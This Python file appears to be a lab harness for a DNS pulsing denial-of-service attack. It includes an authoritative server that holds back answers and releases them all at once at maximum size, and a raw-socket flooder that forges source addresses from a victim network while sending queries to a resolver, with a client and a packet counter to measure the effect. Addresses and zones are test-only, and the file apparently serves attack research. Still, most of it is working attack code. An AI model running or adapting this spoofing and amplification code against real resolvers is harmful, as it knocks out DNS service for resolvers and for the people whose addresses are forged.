"""dns_bomb - the two ends of an attack on a resolver and on those whose addresses are forged, each in a network of its own

    dns_bomb.py authority HOLD STEP   root and test. on 10.3.0.9, bomb.test on 10.3.0.10, good.test on 10.3.0.11. In bomb.test
                                   slow… is answered after 1.6 s, and answers for n… are kept back and all let go at one moment, HOLD s after the first
                                   question (0: never given); with STEP they are aliases first, told after STEP s, and what these
                                   lead to is kept back. Ends with its input; prints {"asked": [[time, name, type], …], "released": time}
    dns_bomb.py flood SECONDS RATE NETWORK   so many questions a second to 10.1.0.1, each for another name of bomb.test, from addresses
                                   of a network (10.2.0.9/32) that is not its own; prints [packets, octets, begin, end]
    dns_bomb.py client SECONDS     asks for names of good.test one after the other; prints how long each answer took, null for none
    dns_bomb.py count              what comes to this host over UDP, until its input ends: [[time, octets of the DNS message, TC], …]

Times are those of CLOCK_MONOTONIC, which all networks of a machine have in common.
"""

import ipaddress
import json
import os
import selectors
import socket
import struct
import sys
import threading
import time

from dns_wire import RD, TYPES, Edns, question, wire_name

ROOT, BOMB, GOOD = "10.3.0.9", "10.3.0.10", "10.3.0.11"
RESOLVER, RESOLVER_PORT = "10.1.0.1", 53


def read_question(packet):
    labels, at = [], 12
    while packet[at]:
        labels.append(packet[at + 1:at + 1 + packet[at]].decode("latin-1").lower())
        at += 1 + packet[at]
    return ".".join(labels), struct.unpack_from(">H", packet, at + 1)[0], at + 5


def reply(packet, end, answer=(), authority=(), additional=(), rcode=0, flags=0x8400):
    body = b"".join(wire_name(owner) + struct.pack(">HHIH", TYPES[kind], 1, 300, len(data)) + data
                    for section in (answer, authority, additional) for owner, kind, data in section)
    return (packet[:2] + struct.pack(">HHHHH", flags | rcode, 1, len(answer), len(authority), len(additional)) + packet[12:end] + body)


def soa(zone):
    return zone, "SOA", wire_name("ns." + zone) + wire_name("h." + zone) + struct.pack(">5I", 1, 60, 60, 60, 1)


def address(name, text):
    return name, "A", socket.inet_aton(text)


class Authority:
    def __init__(self, hold, step):
        self.hold, self.step, self.asked, self.kept, self.released = hold, step, [], [], None
        self.first = None  # question for n…
        self.slow = []  # (when, answer, client)
        self.sockets = {}
        self.selector = selectors.DefaultSelector()
        for where in (ROOT, BOMB, GOOD):
            s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
            s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4 << 20)
            s.bind((where, 53))
            self.sockets[where] = s
            self.selector.register(s, selectors.EVENT_READ, where)

    def answer(self, where, packet):
        """None: it is kept back."""
        name, kind, end = read_question(packet)
        if where == ROOT:
            for zone, server in (("bomb.test", BOMB), ("good.test", GOOD)):
                if name == zone or name.endswith("." + zone):
                    return reply(packet, end, [], [(zone, "NS", wire_name("ns." + zone))], [address("ns." + zone, server)], flags=0x8000)
            if name == "" and kind == TYPES["NS"]:
                return reply(packet, end, [("", "NS", wire_name("ns.root"))], [], [address("ns.root", ROOT)])
            if name == "ns.root" and kind == TYPES["A"]:
                return reply(packet, end, [address(name, ROOT)])
            exists = name in ("", "test", "root", "ns.root")
            return reply(packet, end, [], [soa("")], rcode=0 if exists else 3)
        zone = "bomb.test" if where == BOMB else "good.test"
        self.asked.append((time.monotonic(), name, kind))
        if where == BOMB and name.count(".") == 2 and name[0] in "nm" and not name.startswith("ns."):
            self.first = self.first or time.monotonic()
            if self.step and name[0] == "n":
                return reply(packet, end, [(name, "CNAME", wire_name("m" + name[1:]))])
            return None
        if kind == TYPES["A"] and name != zone:
            return reply(packet, end, [address(name, where)])
        return reply(packet, end, [], [soa(zone)])

    def release(self):
        """All that was kept back, as large as a packet may be."""
        self.released = time.monotonic()
        for packet, client in self.kept:
            name, kind, end = read_question(packet)
            text = b"".join(b"\xff" + b"x" * 255 for _ in range(4))
            answer = reply(packet, end, [(name, "TXT", text)] if kind == TYPES["TXT"] else [], [] if kind == TYPES["TXT"] else [soa("bomb.test")])
            self.sockets[BOMB].sendto(answer, client)
        self.kept = []

    def run(self):
        threading.Thread(target=lambda: (sys.stdin.read(), self.end()), daemon=True).start()
        print("ready", flush=True)
        while True:
            for key, _ in self.selector.select(0.02):
                packet, client = key.fileobj.recvfrom(4096)
                answer = self.answer(key.data, packet)
                name = read_question(packet)[0]
                if answer is None:
                    self.kept.append((packet, client))
                elif key.data == BOMB and (name.startswith("slow") or self.step and name[0] == "n" and not name.startswith("ns.")):
                    self.slow.append((time.monotonic() + (self.step if name[0] == "n" else 1.6), answer, client))
                else:
                    key.fileobj.sendto(answer, client)
            for each in [each for each in self.slow if each[0] < time.monotonic()]:
                self.slow.remove(each)
                self.sockets[BOMB].sendto(each[1], each[2])
            if self.hold and self.first and time.monotonic() > self.first + self.hold:
                self.release()
                self.first = None

    def end(self):
        print(json.dumps({"asked": self.asked, "released": self.released}), flush=True)
        os._exit(0)


def flood(seconds, rate, network):
    hosts = [str(each) for each in ipaddress.ip_network(network)]
    packets = octets = 0
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as raw:
        begin = time.monotonic()
        while (passed := time.monotonic() - begin) < seconds:
            while packets < passed * rate:
                asked = question(f"n{packets}x{os.getpid()}.bomb.test", "TXT", RD, Edns(1232), number=packets & 0xFFFF)
                octets += len(asked)
                udp = struct.pack(">HHHH", 1024 + packets % 60000, RESOLVER_PORT, 8 + len(asked), 0) + asked
                source = socket.inet_aton(hosts[packets * 257 % len(hosts)])
                ip = struct.pack(">BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 0, 0, 64, 17, 0, source, socket.inet_aton(RESOLVER))
                raw.sendto(ip + udp, (RESOLVER, 0))
                packets += 1
            time.sleep(0.002)
    print(json.dumps([packets, octets, begin, time.monotonic()]))


def client(seconds):
    waited, began = [], time.monotonic()
    while time.monotonic() - began < seconds:
        number = len(waited)
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
            s.settimeout(3)
            start = time.monotonic()
            s.sendto(question(f"c{number}.good.test", "A", RD, number=number), ("10.4.0.1", 53))
            try:
                answer = s.recv(4096)
                good = answer[:2] == number.to_bytes(2, "big") and answer[3] & 15 == 0 and answer[7] == 1
            except TimeoutError:
                good = False
            waited.append(time.monotonic() - start if good else None)
        time.sleep(0.05)
    print(json.dumps(waited))


def count():
    seen = []
    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_UDP)
    raw.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 16 << 20)

    def end():
        sys.stdin.read()
        print(json.dumps(seen), flush=True)
        os._exit(0)
    threading.Thread(target=end, daemon=True).start()
    print("ready", flush=True)
    while True:
        packet = raw.recv(65535)
        if len(packet) >= 40:
            seen.append((time.monotonic(), len(packet) - 28, bool(packet[30] & 2)))


if __name__ == "__main__":
    role, *words = sys.argv[1:]
    if role == "authority":
        Authority(float(words[0]), float(words[1])).run()
    elif role == "flood":
        flood(float(words[0]), float(words[1]), words[2])
    elif role == "client":
        client(float(words[0]))
    else:
        count()
